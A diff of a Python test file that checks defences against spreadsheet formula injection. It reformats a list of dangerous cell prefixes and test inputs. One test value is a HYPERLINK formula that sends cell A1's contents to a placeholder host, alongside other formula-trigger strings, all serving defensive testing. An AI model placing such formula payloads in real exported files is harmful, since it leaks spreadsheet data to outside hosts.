@@ -12,15 +12,16 @@ from dpmarket.certificates.verifier.__main__ import _as_meant
 from dpmarket.files import csv_text, read_table, write_table
 from dpmarket.files.formulas import as_meant, harmless
 
-DANGEROUS = "=+-@\t\r\n＝＋－＠"
+DANGEROUS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
 ODD = [
-    '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1",
-    "＝1", "'=1", "''=1", "'", "''", "'tis", "' =1", "a=1", "=", "-", "a;=1", "a\t=1", '"=1"', "seller", "é", "",
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+    "  =1", "\uff1d1", "'=1", "''=1", "'", "''", "'tis", "' =1", "a=1", "=", "-", "a;=1", "a\t=1", '"=1"',
+    "seller", "é", "",
 ]  # fmt: skip
 
 
 def starts_a_formula(cell):
-    """Whether a spreadsheet would run a cell: it begins with one of these, or does after blanks are cut off."""
+    """Whether a spreadsheet would run a cell: it begins with one of these, or does after blanks."""
     return cell[:1] in tuple(DANGEROUS) or cell.lstrip()[:1] in tuple(DANGEROUS)
 
 
